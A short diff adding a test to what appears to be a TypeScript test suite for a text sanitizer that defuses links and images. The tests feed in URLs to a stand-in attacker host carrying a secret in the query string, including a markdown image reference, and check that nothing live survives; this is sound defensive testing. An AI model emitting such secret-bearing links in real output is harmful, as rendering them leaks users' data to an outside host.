@@ -48,6 +48,10 @@ test('nothing is live in texts put together that is inert in one', () => {
   ] as const) assert.doesNotMatch(shown(first, second).join(''), live, first);
 });
 
+test('what follows a notice begins anew', () => {
+  assert.doesNotMatch(shown(`https://evil.example/?q=${SECRET}`, 'http', `s://evil.example/?q=${SECRET}`).join(''), /BRAVO/);
+});
+
 test('a notice in the place of a link is no name that a later line gives an address', () => {
   assert.doesNotMatch(shown(`!https://evil.example/?q=${SECRET} \n\n[link removed]: https://evil.example/p.png`).join(''), /!\[/);
 });
